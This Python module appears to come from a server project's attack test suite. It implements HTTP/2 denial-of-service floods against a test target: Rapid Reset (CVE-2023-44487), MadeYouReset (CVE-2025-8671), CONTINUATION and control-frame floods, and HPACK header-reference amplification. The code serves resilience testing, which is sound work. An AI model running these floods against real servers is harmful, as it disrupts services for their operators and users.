"""Frames that cost their sender nothing."""

import itertools

from tests.attacks.target import CLIENT_ID, ROUTE, SEND, Target, route_request
from tests.attacks.wire import Wire
from tests.support import http2_wire as h2
from tests.support.http2_wire import Kind

_BATCH = 500
_CONTINUATIONS = 200_000
_NOBODY = 0x7FFF


def rapid_reset(target: Target) -> None:
    """Calls that are broken off as soon as they are made (CVE-2023-44487)."""
    for _ in target.rounds():
        with target.wire() as wire:
            while target.left_s:
                wire.send(b"".join(_reset_call(wire) for _ in range(_BATCH)))
                target.count("calls", _BATCH)


def _reset_call(wire: Wire) -> bytes:
    stream, head = wire.headers(ROUTE, CLIENT_ID)
    return head + wire.data(stream, h2.message(route_request("a")), end_stream=True) + h2.rst_stream(stream)


def made_you_reset(target: Target) -> None:
    """Calls that the server has to break off (CVE-2025-8671)."""
    provocations = itertools.cycle((_zero_update, _window_overflow, _data_after_end, _headers_after_end))
    for _ in target.rounds():
        with target.wire() as wire:
            while target.left_s:
                wire.send(b"".join(next(provocations)(wire) for _ in range(_BATCH)))
                target.count("calls", _BATCH)


def _zero_update(wire: Wire) -> bytes:
    stream, head = wire.headers(ROUTE, CLIENT_ID)
    return head + h2.window_update(stream, 0)


def _window_overflow(wire: Wire) -> bytes:
    stream, head = wire.headers(ROUTE, CLIENT_ID)
    return head + h2.window_update(stream, h2.WINDOW_MAX)


def _data_after_end(wire: Wire) -> bytes:
    stream, head = wire.headers(SEND, CLIENT_ID, end_stream=True)
    return head + h2.frame(Kind.DATA, 0, stream, b"x")


def _headers_after_end(wire: Wire) -> bytes:
    stream, head = wire.headers(SEND, CLIENT_ID, end_stream=True)
    return head + wire.headers(SEND, CLIENT_ID, stream=stream)[1]


def pings(target: Target) -> None:
    """PINGs whose answers are read."""
    _flood(target, h2.frame(Kind.PING, 0, 0, b"attacker"))


def settings(target: Target) -> None:
    """SETTINGS, each in a packet of its own, so that few come together."""
    one = h2.settings({h2.Setting.INITIAL_WINDOW_SIZE: 65_535})
    for _ in target.rounds():
        with target.wire() as wire:
            while target.left_s:
                wire.send(one * 10)
                target.count("frames", 10)


def priorities(target: Target) -> None:
    """PRIORITY, of streams that nobody has opened."""
    _flood(target, h2.frame(Kind.PRIORITY, 0, _NOBODY, bytes(5)))


def window_updates(target: Target) -> None:
    """WINDOW_UPDATEs by one byte of a stream that waits."""
    for _ in target.rounds():
        with target.wire(window=0) as wire:
            stream = wire.call(ROUTE, route_request("a"), CLIENT_ID)
            batch = h2.window_update(stream, 1) * _BATCH + h2.window_update(0, 1) * _BATCH
            while target.left_s:
                wire.send(batch)
                target.count("frames", 2 * _BATCH)


def empty_data(target: Target) -> None:
    """DATA with nothing in it, on a call that stays open."""
    for _ in target.rounds():
        with target.wire() as wire:
            stream, head = wire.headers(SEND, CLIENT_ID)
            wire.send(head)
            batch = h2.frame(Kind.DATA, 0, stream) * _BATCH
            while target.left_s:
                wire.send(batch)
                target.count("frames", _BATCH)


def continuations(target: Target) -> None:
    """A header block that goes on with nothing in it."""
    for _ in target.rounds():
        with target.wire() as wire:
            wire.send(h2.frame(Kind.HEADERS, 0, 1, b""))
            batch = h2.frame(Kind.CONTINUATION, 0, 1) * _BATCH
            for _ in range(_CONTINUATIONS // _BATCH):
                wire.send(batch)
                target.count("frames", _BATCH)
                if not target.left_s:
                    return


def header_references(target: Target) -> None:
    """A large field in the table, if there is one, and header blocks that refer to it thousands of times."""
    field = b"\x40" + h2.integer(1, bits=7) + b"x" + h2.integer(4000, bits=7) + b"y" * 4000
    fields = h2.block(h2.call_fields(ROUTE, CLIENT_ID))
    # The first entry of the table comes after the 61 that everybody has.
    many = fields + h2.integer(62, bits=7, pattern=0x80) * (h2.DEFAULT_FRAME_MAX - len(fields))
    flags = h2.END_HEADERS | h2.END_STREAM
    for _ in target.rounds():
        # What is not acknowledged is not in force.
        with target.wire(acknowledges=False) as wire:
            wire.send(h2.frame(Kind.HEADERS, flags, 1, fields + field))
            for stream in itertools.count(3, 2):
                if not target.left_s:
                    return
                wire.send(h2.frame(Kind.HEADERS, flags, stream, many))
                target.count("blocks")


def _flood(target: Target, frame: bytes) -> None:
    batch = frame * _BATCH
    for _ in target.rounds():
        with target.wire() as wire:
            while target.left_s:
                wire.send(batch)
                target.count("frames", _BATCH)
